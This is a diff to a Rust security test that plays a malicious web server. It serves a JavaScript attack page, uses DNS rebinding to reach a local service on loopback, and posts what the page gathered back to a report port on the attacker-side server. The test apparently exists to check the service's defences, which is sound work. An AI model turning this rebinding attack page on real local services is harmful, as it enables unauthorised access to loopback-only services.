@@ -4,7 +4,9 @@
 //! The page's server is this test. It serves the page, takes its report, and
 //! passes what it doesn't know on to the service, byte by byte: to the browser
 //! and to the service that is DNS rebinding, where a name that was the
-//! attacker's address means loopback from some moment on.
+//! attacker's address means loopback from some moment on. The report goes to a
+//! port of its own: the browser may keep a connection open that already leads to
+//! the service, and use it again.
 
 use std::io::{Read, Write};
 use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
@@ -61,7 +63,7 @@ async function attack() {
   };
   seen.friend = await twice().catch(() => "blocked");
 }
-attack().catch((e) => { seen.error = `${e}`; }).then(() => fetch("/report", { method: "POST", body: JSON.stringify(seen) }))
+attack().catch((e) => { seen.error = `${e}`; }).then(() => fetch("REPORTS/report", { mode: "no-cors", method: "POST", body: JSON.stringify(seen) }))
   // A person follows a link to the service's own page.
   .then(() => { const a = document.createElement("a"); a.href = "TARGET/"; document.body.append(a); a.click(); });
 </script>"#;
@@ -142,7 +144,10 @@ fn body(head: &str, client: &mut TcpStream) -> Value {
 
 fn evil(service: &Service, friend: SocketAddr, listener: TcpListener) -> Receiver<Value> {
     let (reports, received) = channel();
+    let reports_to = TcpListener::bind("127.0.0.1:0").expect("a port");
+    let reports_port = reports_to.local_addr().expect("bound").port();
     let page = ATTACK
+        .replace("REPORTS", &format!("http://127.0.0.1:{reports_port}"))
         .replace(
             "TARGET",
             &format!("http://localhost:{}", service.http.port()),
@@ -157,7 +162,10 @@ fn evil(service: &Service, friend: SocketAddr, listener: TcpListener) -> Receive
         service: service.http,
         reports,
     };
-    thread::spawn(move || evil.serve(&listener));
+    for listener in [listener, reports_to] {
+        let evil = evil.clone();
+        thread::spawn(move || evil.serve(&listener));
+    }
     received
 }
 
